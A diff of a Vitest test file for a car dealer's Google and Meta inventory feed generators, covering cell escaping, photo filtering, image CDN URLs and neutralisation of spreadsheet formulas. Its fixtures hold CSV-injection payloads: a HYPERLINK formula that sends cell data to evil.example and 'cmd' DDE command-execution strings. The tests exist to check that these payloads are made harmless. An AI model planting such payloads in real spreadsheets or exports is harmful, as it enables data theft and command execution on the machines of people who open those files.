@@ -1,14 +1,16 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, delimitedHeader, delimitedLine, tsvCell } from '../../../src/domain/inventory-feeds/delimited';
+import { googleVehicleAdsFeed, metaVehicleCatalogFeed } from '../../../src/build/inventory-feed-files';
+import { cellOf, neutraliseFormula, textCell } from '../../../src/domain/inventory-feeds/delimited';
 import {
-  GOOGLE_COLUMNS, googleBodyStyle, googleEngine, googlePriceType, googleVehicleAd, googleVehicleAdsFeed,
+  GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS, googleBodyStyle, googleEngine, googlePriceType, googleVehicleAd,
 } from '../../../src/domain/inventory-feeds/google-vehicle-ads';
 import {
-  META_COLUMNS, metaBodyStyle, metaDrivetrain, metaFuelType, metaTransmission, metaVehicle, metaVehicleCatalogFeed,
+  META_COLUMNS, META_NUMBER_COLUMNS, metaBodyStyle, metaDrivetrain, metaFuelType, metaTransmission, metaVehicle,
 } from '../../../src/domain/inventory-feeds/meta-vehicle-catalog';
-import { notAdvertised, plainDescription } from '../../../src/domain/inventory-feeds/vehicle-values';
+import { feedPhotos, notAdvertised, photoFileType, plainDescription } from '../../../src/domain/inventory-feeds/vehicle-values';
 import type { CarInput } from '../../../src/domain/schemas';
-import { parseCsv } from './csv-reader';
+import { rasterPhotoUrl } from '../../../src/lib/image-cdn';
+import { expectSafeFeed, parseStrictCsv, parseStrictTsv, records } from '../../fixtures/feeds/strict-parse';
 import { makeCar, makeConfig, makeLocation } from './fixtures';
 
 const config = makeConfig({
@@ -35,19 +37,73 @@ const row = <R>(out: { row: R } | { missing: string[] }): R => {
 };
 const missing = (out: { row: unknown } | { missing: string[] }): string[] => ('missing' in out ? out.missing : []);
 
-describe('escaping for the two formats', () => {
-  it('TSV: tabs, line breaks and control characters become single spaces, so a value never adds a column or row', () => {
-    expect(tsvCell('a\tb\r\nc\u0000d  e ')).toBe('a b c d e');
-    expect(tsvCell(null)).toBe('');
-    expect(tsvCell(12)).toBe('12');
+describe('cells of the two formats', () => {
+  it('TSV: tabs, line breaks, NEL, line and paragraph separators and control characters become single spaces', () => {
+    expect(textCell('a\tb\r\nc\u0000d  e \u0085f\u2028g\u2029h\u009bi', 'tsv')).toBe('a b c d e f g h i');
+    expect(cellOf(null, 'tsv', false)).toBe('');
+    expect(cellOf(12, 'tsv', true)).toBe('12');
   });
 
-  it('CSV: values with commas, quotes or whitespace are quoted, quotes doubled; line breaks stay inside the quotes', () => {
-    expect(csvCell('plain')).toBe('plain');
-    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
-    expect(csvCell('two\r\nlines')).toBe('"two\nlines"');
-    const text = `${delimitedHeader(['x', 'y'], 'csv')}\n${delimitedLine(['x', 'y'], { x: 'a, "b"\nc', y: 1 }, 'csv')}\n`;
-    expect(parseCsv(text)).toEqual([['x', 'y'], ['a, "b"\nc', '1']]);
+  it('CSV: line breaks stay (as \\n, inside the quotes); NEL, separators, tabs and controls become spaces', () => {
+    expect(textCell('two\r\nlines\u0085x\u2028y\tz', 'csv')).toBe('two\nlines x y z');
+  });
+
+  it('OWASP formula starters get a leading single quote, also after leading spaces or quotes; ordinary text does not', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+2',
+      '  =1+2', '"=1+2', '\uFF1D1+2'];
+    for (const p of payloads) expect(neutraliseFormula(p), JSON.stringify(p)).toBe(`'${p}`);
+    for (const format of ['tsv', 'csv'] as const) {
+      expect(textCell('\t=1+2', format)).toBe("'=1+2");
+      expect(textCell(' \r\n@SUM(A1)', format)).toBe("'@SUM(A1)");
+    }
+    // Ordinary text, and a text already marked as text by its leading single quote, stay as they are.
+    for (const ok of ['Soul Red', '2021 Toyota', 'Mazda CX-5', 'a=b', '5 + 5', '', "'=1+2"]) expect(neutraliseFormula(ok)).toBe(ok);
+  });
+
+  it('number columns keep numbers as they are ("-27.47" is a latitude); the same value in a text column is text', () => {
+    expect(cellOf(-27.47, 'csv', true)).toBe('-27.47');
+    expect(cellOf(-5, 'tsv', false)).toBe("'-5");
+    expect(cellOf('-5', 'csv', true)).toBe("'-5");
+    expect(cellOf(Number.NaN, 'csv', true)).toBe('');
+  });
+});
+
+describe('photos the platforms take', () => {
+  const svg = (over: Partial<CarInput> = {}) => full({ images: [{ url: '/dealer/img/a.svg' }, { url: 'https://cdn.example.com/b.jpg' }, { url: '/dealer/img/c.svg?2' }], ...over });
+
+  it('file types by extension or data: URL; none when the URL names none', () => {
+    expect(['https://x.example/a.JPG?w=1', '/dealer/b.svg', 'data:image/svg+xml;base64,AA', 'https://img.example/photo/123'].map(photoFileType)).toEqual(['jpg', 'svg', 'svg', null]);
+  });
+
+  it('without a CDN: SVG photos are left out and counted; raster photos and URLs without a type stay', () => {
+    expect(feedPhotos(svg(), config, ['jpg'])).toEqual({ urls: ['https://cdn.example.com/b.jpg'], refused: ['svg', 'svg'] });
+    const out = googleVehicleAd(svg(), config);
+    expect(row(out).image_link).toBe('https://cdn.example.com/b.jpg');
+    expect(row(out).additional_image_link).toBe('');
+    expect((out as { photosRefused: string[] }).photosRefused).toEqual(['svg', 'svg']);
+  });
+
+  it('a car with only SVG photos is left out of both feeds, saying what each platform does with it', () => {
+    const only = full({ images: [{ url: '/dealer/img/a.svg' }, { url: '/dealer/img/b.svg' }] });
+    expect(missing(googleVehicleAd(only, config))).toEqual(['image_link (no photo the platform takes: 2 SVG left out; Merchant Center disapproves an offer without an image it can read)']);
+    expect(missing(metaVehicle(only, config))).toEqual(['image[0].url (no photo the platform takes: 2 SVG left out; Meta rejects a vehicle without an image it can read)']);
+  });
+
+  it('with an image CDN: the CDN\'s JPEG of every photo, SVG drawings included where the CDN draws them', () => {
+    const wsrv = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ provider: 'wsrv', base_url: null }, u) };
+    const r = row(metaVehicle(svg(), wsrv));
+    expect(r['image[0].url']).toBe('https://wsrv.nl/?url=dealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&output=jpeg&fit=cover');
+    expect([r['image[1].url'], r['image[2].url']].every((u) => typeof u === 'string' && u.includes('output=jpeg'))).toBe(true);
+    const template = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ template: 'https://img.example.com/?url={url}&w={width}&fm={format}' }, u) };
+    expect(row(googleVehicleAd(svg(), template)).image_link).toBe('https://img.example.com/?url=https%3A%2F%2Fdealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&fm=jpeg');
+  });
+
+  it('a CDN that passes SVG through (Cloudflare) or picks the format itself (Vercel) gives no JPEG of a drawing', () => {
+    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.svg')).toBeNull();
+    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.jpg')).toBe('https://img.dealer.example/cdn-cgi/image/width=1600,f=jpeg,fit=cover/https://dealer.example.com/a.jpg');
+    expect(rasterPhotoUrl({ provider: 'vercel', base_url: 'https://dealer.example.com' }, 'https://dealer.example.com/a.jpg')).toBeNull();
+    expect(rasterPhotoUrl({ template: 'https://img.example.com/{width}/{url}' }, 'https://dealer.example.com/a.svg')).toBeNull();
+    expect(rasterPhotoUrl('none', 'https://dealer.example.com/a.jpg')).toBeNull();
   });
 });
 
@@ -183,17 +239,30 @@ describe('whole feeds', () => {
     ]);
   });
 
-  it('a hostile comment (tabs, line breaks, quotes, commas) stays inside its one cell in both files', () => {
-    const car = full({ dealercomments: 'Line one\tstill\r\nline "two", with commas|next' });
-    const google = googleVehicleAdsFeed([car], config).text.split('\n').filter(Boolean);
+  it('a hostile comment (tabs, line breaks, quotes, commas, NEL, separators) stays inside its one cell in both files', () => {
+    const car = full({ dealercomments: 'Line one\tstill\r\nline "two", with commas\u0085and\u2028more|next' });
+    const google = parseStrictTsv(googleVehicleAdsFeed([car], config).text);
+    expectSafeFeed(google, GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS);
     expect(google).toHaveLength(2);
-    expect(google[0]!.split('\t')).toEqual([...GOOGLE_COLUMNS]);
-    expect(google[1]!.split('\t')).toHaveLength(GOOGLE_COLUMNS.length);
-    expect(google[1]!.split('\t')[2]).toBe('Line one still line "two", with commas next');
-    const meta = parseCsv(metaVehicleCatalogFeed([car], config).text);
+    expect(records(google)[0]!.description).toBe('Line one still line "two", with commas and more next');
+    const meta = parseStrictCsv(metaVehicleCatalogFeed([car], config).text);
+    expectSafeFeed(meta, META_COLUMNS, META_NUMBER_COLUMNS);
     expect(meta).toHaveLength(2);
-    expect(meta[0]).toEqual([...META_COLUMNS]);
-    expect(meta[1]![META_COLUMNS.indexOf('description')]).toBe('Line one still line "two", with commas next');
+    expect(records(meta)[0]!.description).toBe('Line one still line "two", with commas and more next');
+  });
+
+  it('spreadsheet formulas in every text field are neutralised in both files; numbers stay numbers', () => {
+    const car = full({
+      name: '=HYPERLINK("http://evil.example","Click")', make: '+cmd|\' /C calc\'!A0', model: '@SUM(1+1)', badge: '\t=1+2', colour: '-2+3',
+      interior_colour: ' =1', dealercomments: '"=IMPORTXML(A1)"', stocknum: '=S1',
+    });
+    const cfg = makeConfig({ ...config, locations: [makeLocation({ id: 2, slug: 'gold-coast', name: '=Gold Coast', address: { street: '@5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: -153.4 } })] } as never);
+    const google = parseStrictTsv(googleVehicleAdsFeed([car], cfg).text);
+    expectSafeFeed(google, GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS);
+    expect(records(google)[0]).toMatchObject({ id: "'=S1", title: `'=HYPERLINK("http://evil.example","Click")`, brand: "'+cmd|' /C calc'!A0", model: "'@SUM(1+1)", trim: "'=1+2", color: "'-2+3", year: '2021' });
+    const meta = parseStrictCsv(metaVehicleCatalogFeed([car], cfg).text);
+    expectSafeFeed(meta, META_COLUMNS, META_NUMBER_COLUMNS);
+    expect(records(meta)[0]).toMatchObject({ interior_color: "'=1", description: `'"=IMPORTXML(A1)"`, dealer_name: "'=Gold Coast", 'address.addr1': "'@5 Beach Rd", latitude: '-28', longitude: '-153.4', 'mileage.value': '41000' });
   });
 
   it('a car without dealer comments is described by its facts', () => {
